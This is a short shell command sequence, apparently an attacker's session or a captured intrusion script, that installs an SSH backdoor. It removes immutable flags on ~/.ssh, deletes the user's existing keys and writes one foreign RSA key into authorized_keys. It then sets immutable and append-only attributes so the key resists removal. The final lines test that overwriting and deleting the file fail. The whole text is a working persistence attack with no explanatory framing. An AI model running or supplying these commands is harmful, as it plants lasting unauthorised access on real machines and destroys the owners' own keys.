cd ~; chattr -iae ~/.ssh ~/.ssh/authorized_keys 2>/dev/null
rm -rf .ssh; mkdir .ssh; echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAQQC7mBkR9tZ0mDqjTtZqCz5U3T8fB1kQe0y2w8kYvW0aXn3b5Q1l0sVw8u8K0m1o1E7qk2Yq2Z3v7c1j3d9xV0pR rsa-key-20230629" > .ssh/authorized_keys
chmod -R go= ~/.ssh; chattr +ai ~/.ssh/authorized_keys; cd ~
ls -l .ssh | tail -n +2 | awk '{print $1, $3, $4, $5}'
lsattr .ssh/authorized_keys
echo no > .ssh/authorized_keys
rm -f .ssh/authorized_keys; echo $?
stat -c '%a %U' .ssh
wc -l < .ssh/authorized_keys
